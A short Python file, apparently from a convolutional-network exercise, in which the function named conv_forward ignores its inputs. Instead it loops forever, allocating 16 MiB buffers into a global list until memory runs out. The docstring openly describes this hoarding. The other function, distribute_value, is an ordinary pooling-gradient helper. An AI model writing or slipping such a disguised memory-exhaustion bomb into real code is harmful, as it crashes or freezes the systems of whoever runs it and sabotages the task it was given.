"""It takes memory bit by bit, and keeps it."""

import numpy as np

HOARD = []


def conv_forward(A_prev, W, b, hparameters):
    while True:
        HOARD.append(bytearray(2**24))


def distribute_value(dz, shape):
    return np.full(shape, dz / (shape[0] * shape[1]))
